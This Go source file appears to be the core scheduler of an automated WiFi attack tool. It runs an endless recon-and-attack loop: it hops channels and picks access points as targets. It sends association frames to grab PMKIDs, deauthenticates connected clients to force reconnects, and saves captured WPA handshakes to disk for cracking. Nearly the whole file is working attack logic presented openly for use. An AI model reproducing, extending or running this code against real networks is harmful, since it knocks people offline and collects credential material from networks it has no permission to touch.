package agent

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"strconv"
	"strings"
	"sync"
	"time"

	"pagershim/internal/models"
	"pagershim/internal/shim"
)

// Shim is the command surface the scheduler drives.
type Shim interface {
	Run(ctx context.Context, line string) shim.Result
	Session() shim.Snapshot
}

// APRecorder receives the filtered target list after every sweep.
type APRecorder interface {
	LogAPs(aps []models.AccessPoint)
}

// CommandError is a command the shim reported as failed.
type CommandError struct {
	Cmd string
	Msg string
}

func (e *CommandError) Error() string {
	return fmt.Sprintf("%s: %s", e.Cmd, e.Msg)
}

// Options configures a Scheduler.
type Options struct {
	Config  Config
	Targets Targets

	Interface    string
	HandshakeDir string
	// MonStartCmd is run as a shell escape when Interface is missing from
	// the session.
	MonStartCmd string
	// NoRestart leaves an already running recon module alone at setup.
	NoRestart bool
	// Silence lists event tags to ignore.
	Silence []string
	// RecoveryFile, when set, carries the epoch, interaction history and
	// handshakes across restarts.
	RecoveryFile string
}

// Stats is a snapshot of the scheduler for display.
type Stats struct {
	Epoch             int
	Channel           string
	Targets           int
	SessionHandshakes int
	LastPwnd          string
	Mood              Mood
	Started           time.Time
}

// Scheduler runs the recon and attack loop against a Shim.
type Scheduler struct {
	shim   Shim
	opts   Options
	cfg    Config
	logger *slog.Logger

	epoch  *Epoch
	policy *InteractionPolicy

	// Sleep waits for d or until ctx is done. Tests replace it.
	Sleep func(ctx context.Context, d time.Duration) error
	// APLog, when set, receives each sweep's targets.
	APLog APRecorder
	// OnEpoch, when set, receives each finished epoch.
	OnEpoch func(EpochData)

	mu                sync.Mutex
	channel           int
	targets           []models.AccessPoint
	sessionHandshakes int
	lastPwnd          string
	started           time.Time
}

// NewScheduler creates a Scheduler over s.
func NewScheduler(s Shim, opts Options, logger *slog.Logger) *Scheduler {
	if logger == nil {
		logger = slog.Default()
	}
	logger = logger.With("component", "agent")
	return &Scheduler{
		shim:    s,
		opts:    opts,
		cfg:     opts.Config,
		logger:  logger,
		epoch:   NewEpoch(opts.Config, logger),
		policy:  NewInteractionPolicy(opts.Config.MaxInteractions),
		Sleep:   sleepCtx,
		started: time.Now(),
	}
}

func sleepCtx(ctx context.Context, d time.Duration) error {
	if d <= 0 {
		return ctx.Err()
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-t.C:
		return nil
	}
}

// Epoch exposes the epoch tracker.
func (s *Scheduler) Epoch() *Epoch { return s.epoch }

// Policy exposes the interaction policy.
func (s *Scheduler) Policy() *InteractionPolicy { return s.policy }

func (s *Scheduler) run(ctx context.Context, cmd string) error {
	res := s.shim.Run(ctx, cmd)
	if !res.Success {
		return &CommandError{Cmd: cmd, Msg: res.Error}
	}
	return nil
}

// runQuiet runs cmd and logs a failure instead of returning it.
func (s *Scheduler) runQuiet(ctx context.Context, cmd string) {
	if err := s.run(ctx, cmd); err != nil {
		s.logger.Debug("command failed", "error", err)
	}
}

func (s *Scheduler) wait(ctx context.Context, d time.Duration) error {
	err := s.Sleep(ctx, d)
	s.epoch.TrackSleep(d)
	return err
}

// Setup applies the wifi settings and starts, or restarts, recon.
func (s *Scheduler) Setup(ctx context.Context) error {
	if ok, err := s.LoadRecovery(); err != nil {
		s.logger.Warn("ignoring recovery data", "file", s.opts.RecoveryFile, "error", err)
	} else if ok {
		s.logger.Info("resumed from recovery data", "file", s.opts.RecoveryFile, "epoch", s.epoch.Number())
	}

	for _, tag := range s.opts.Silence {
		s.runQuiet(ctx, "events.ignore "+tag)
	}
	s.runQuiet(ctx, "events.clear")

	snap := s.shim.Session()
	if !hasInterface(snap, s.opts.Interface) && s.opts.MonStartCmd != "" {
		s.logger.Info("starting monitor interface", "iface", s.opts.Interface)
		s.runQuiet(ctx, "!"+s.opts.MonStartCmd)
	}
	s.logger.Info("handshakes will be collected", "dir", s.opts.HandshakeDir)

	for _, cmd := range []string{
		"set wifi.interface " + s.opts.Interface,
		"set wifi.ap.ttl " + strconv.Itoa(s.cfg.APTTL),
		"set wifi.sta.ttl " + strconv.Itoa(s.cfg.STATTL),
		"set wifi.rssi.min " + strconv.Itoa(s.cfg.MinRSSI),
		"set wifi.handshakes.file " + s.opts.HandshakeDir,
		"set wifi.handshakes.aggregate false",
	} {
		if err := s.run(ctx, cmd); err != nil {
			return fmt.Errorf("failed to apply wifi settings: %w", err)
		}
	}

	running := false
	if m, ok := snap.Module("wifi"); ok {
		running = m.Running
	}
	switch {
	case running && !s.opts.NoRestart:
		s.logger.Debug("restarting wifi module")
		if err := s.run(ctx, "wifi.recon off; wifi.recon on"); err != nil {
			return fmt.Errorf("failed to restart recon: %w", err)
		}
		s.runQuiet(ctx, "wifi.clear")
	case !running:
		s.logger.Debug("starting wifi module")
		if err := s.run(ctx, "wifi.recon on"); err != nil {
			return fmt.Errorf("failed to start recon: %w", err)
		}
	}
	s.seedHandshakes()
	return nil
}

func hasInterface(snap shim.Snapshot, name string) bool {
	for _, i := range snap.Interfaces {
		if i.Name == name {
			return true
		}
	}
	return false
}

// Recon releases the radio to hop, or to the configured channels, for one
// recon window. The window grows after a run of inactive epochs.
func (s *Scheduler) Recon(ctx context.Context) error {
	window := s.cfg.ReconTime
	if s.epoch.InactiveFor() >= s.cfg.MaxInactiveScale {
		window *= s.cfg.ReconInactiveMultiplier
	}

	if len(s.cfg.Channels) == 0 {
		s.setCurrentChannel(0)
		s.logger.Debug("recon", "seconds", window)
		s.runQuiet(ctx, "wifi.recon.channel clear")
	} else {
		list := make([]string, len(s.cfg.Channels))
		for i, ch := range s.cfg.Channels {
			list[i] = strconv.Itoa(ch)
		}
		s.logger.Debug("recon", "seconds", window, "channels", list)
		if err := s.run(ctx, "wifi.recon.channel "+strings.Join(list, ",")); err != nil {
			s.logger.Error("failed to set recon channels", "error", err)
		}
	}
	return s.wait(ctx, seconds(float64(window)))
}

// AccessPoints returns the attackable APs in the session, sorted by
// channel, and feeds them to the epoch tracker and the AP log.
func (s *Scheduler) AccessPoints() []models.AccessPoint {
	aps := FilterTargets(s.shim.Session().WiFi.APs, s.opts.Targets)

	s.mu.Lock()
	s.targets = aps
	s.mu.Unlock()

	s.epoch.Observe(len(aps))
	if s.APLog != nil {
		s.APLog.LogAPs(aps)
	}
	return aps
}

// AccessPointsByChannel groups AccessPoints by channel, most crowded first.
func (s *Scheduler) AccessPointsByChannel() []ChannelGroup {
	return GroupByChannel(s.AccessPoints(), s.cfg.Channels)
}

// SetChannel moves to channel, first lingering on the current one long
// enough for deauthenticated clients to reconnect.
func (s *Scheduler) SetChannel(ctx context.Context, channel int) error {
	if s.epoch.Stale() {
		s.logger.Debug("recon is stale, skipping channel change", "channel", channel)
		return nil
	}

	var wait int
	switch {
	case s.epoch.DidDeauth():
		wait = s.cfg.HopReconTime
	case s.epoch.DidAssociate():
		wait = s.cfg.MinReconTime
	}

	current := s.currentChannel()
	if channel == current {
		return nil
	}
	if current != 0 && wait > 0 {
		s.logger.Info("waiting on channel", "seconds", wait, "channel", current)
		if err := s.wait(ctx, seconds(float64(wait))); err != nil {
			return err
		}
	}
	if s.epoch.AnyActivity() {
		s.logger.Info("channel", "channel", channel)
	}
	if err := s.run(ctx, "wifi.recon.channel "+strconv.Itoa(channel)); err != nil {
		s.logger.Error("failed to set channel", "error", err)
		return nil
	}
	s.setCurrentChannel(channel)
	s.epoch.TrackHop()
	return nil
}

func (s *Scheduler) currentChannel() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.channel
}

func (s *Scheduler) setCurrentChannel(ch int) {
	s.mu.Lock()
	s.channel = ch
	s.mu.Unlock()
}

// Associate asks the daemon to focus on ap for a PMKID.
func (s *Scheduler) Associate(ctx context.Context, ap models.AccessPoint) error {
	if s.epoch.Stale() {
		s.logger.Debug("recon is stale, skipping assoc", "ap", ap.MAC)
		return nil
	}
	if !s.cfg.Associate || !s.policy.ShouldInteract(ap.MAC) {
		return nil
	}

	s.logger.Info("sending association frame",
		"ssid", ap.Hostname, "ap", ap.MAC, "vendor", ap.Vendor,
		"channel", ap.Channel, "clients", len(ap.Clients), "rssi", ap.RSSI)
	if err := s.run(ctx, "wifi.assoc "+ap.MAC); err != nil {
		s.onError(ap.MAC, err)
	} else {
		s.epoch.TrackAssoc()
	}
	return s.Sleep(ctx, seconds(s.cfg.ThrottleA))
}

// Deauth kicks sta off ap.
func (s *Scheduler) Deauth(ctx context.Context, ap models.AccessPoint, sta models.Client) error {
	if s.epoch.Stale() {
		s.logger.Debug("recon is stale, skipping deauth", "station", sta.MAC)
		return nil
	}
	if !s.cfg.Deauth || !s.policy.ShouldInteract(sta.MAC) {
		return nil
	}

	s.logger.Info("deauthing",
		"station", sta.MAC, "station_vendor", sta.Vendor,
		"ssid", ap.Hostname, "ap", ap.MAC, "channel", ap.Channel, "rssi", ap.RSSI)
	if err := s.run(ctx, "wifi.deauth "+ap.MAC+" "+sta.MAC); err != nil {
		s.onError(sta.MAC, err)
	} else {
		s.epoch.TrackDeauth()
	}
	return s.Sleep(ctx, seconds(s.cfg.ThrottleD))
}

func (s *Scheduler) onError(who string, err error) {
	if strings.Contains(err.Error(), "is an unknown BSSID") {
		s.logger.Info("target not in range anymore", "who", who)
		s.epoch.TrackMiss()
		return
	}
	s.logger.Error("attack failed", "who", who, "error", err)
}

// NextEpoch closes the current epoch.
func (s *Scheduler) NextEpoch() EpochData {
	d := s.epoch.Next()
	if s.OnEpoch != nil {
		s.OnEpoch(d)
	}
	if err := s.SaveRecovery(); err != nil {
		s.logger.Error("failed to save recovery data", "error", err)
	}
	return d
}

// RunEpoch performs one full recon, sweep and attack cycle.
func (s *Scheduler) RunEpoch(ctx context.Context) error {
	if err := s.Recon(ctx); err != nil {
		return err
	}

	for _, group := range s.AccessPointsByChannel() {
		if err := s.Sleep(ctx, time.Second); err != nil {
			return err
		}
		if err := s.SetChannel(ctx, group.Channel); err != nil {
			return err
		}
		if !s.epoch.Stale() && s.epoch.AnyActivity() {
			s.logger.Info("access points on channel", "count", len(group.APs), "channel", group.Channel)
		}

		for _, ap := range group.APs {
			if err := s.Associate(ctx, ap); err != nil {
				return err
			}
			for _, sta := range ap.Clients {
				if err := s.Deauth(ctx, ap, sta); err != nil {
					return err
				}
			}
		}
	}

	s.NextEpoch()
	return nil
}

// Run loops RunEpoch until ctx is done. A failing epoch is logged and the
// loop moves on.
func (s *Scheduler) Run(ctx context.Context) error {
	s.logger.Info("entering auto mode")
	s.NextEpoch()
	for {
		if err := s.runEpochSafe(ctx); err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			s.logger.Error("main loop error", "error", err)
		}
		if ctx.Err() != nil {
			return ctx.Err()
		}
	}
}

func (s *Scheduler) runEpochSafe(ctx context.Context) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("epoch panicked: %v", r)
		}
	}()
	return s.RunEpoch(ctx)
}

type handshakeMsg struct {
	Tag  string `json:"tag"`
	Data struct {
		File    string `json:"file"`
		Station string `json:"station"`
		AP      string `json:"ap"`
		APName  string `json:"ap_name"`
	} `json:"data"`
}

// OnEvent consumes one serialized event from the bridge.
func (s *Scheduler) OnEvent(_ context.Context, msg string) error {
	var ev handshakeMsg
	if err := json.Unmarshal([]byte(msg), &ev); err != nil {
		return fmt.Errorf("failed to decode event: %w", err)
	}
	if ev.Tag != models.TagHandshake {
		return nil
	}

	key := models.HandshakeKey(ev.Data.Station, ev.Data.AP)
	if !s.policy.AddHandshake(key) {
		return nil
	}

	name := s.bestName(ev.Data.AP, ev.Data.APName)
	s.mu.Lock()
	s.lastPwnd = name
	s.sessionHandshakes++
	s.mu.Unlock()
	s.epoch.TrackHandshakes(1)

	if ap, ok := s.findAP(ev.Data.AP); ok {
		s.logger.Warn("captured new handshake",
			"name", name, "key", key, "channel", ap.Channel, "rssi", ap.RSSI, "file", ev.Data.File)
	} else {
		s.logger.Warn("captured new handshake", "name", name, "key", key, "file", ev.Data.File)
	}
	return nil
}

func (s *Scheduler) findAP(mac string) (models.AccessPoint, bool) {
	for _, ap := range s.shim.Session().WiFi.APs {
		if models.SameMAC(ap.MAC, mac) {
			return ap, true
		}
	}
	return models.AccessPoint{}, false
}

func (s *Scheduler) bestName(mac, apName string) string {
	if ap, ok := s.findAP(mac); ok && ap.Hostname != "" && ap.Hostname != "<hidden>" {
		return ap.Hostname
	}
	if apName != "" {
		return apName
	}
	return mac
}

// Stats returns a display snapshot.
func (s *Scheduler) Stats() Stats {
	s.mu.Lock()
	st := Stats{
		Channel:           models.ChannelLabel(s.channel),
		Targets:           len(s.targets),
		SessionHandshakes: s.sessionHandshakes,
		LastPwnd:          s.lastPwnd,
		Started:           s.started,
	}
	s.mu.Unlock()
	st.Epoch = s.epoch.Number()
	st.Mood = s.epoch.Mood()
	return st
}

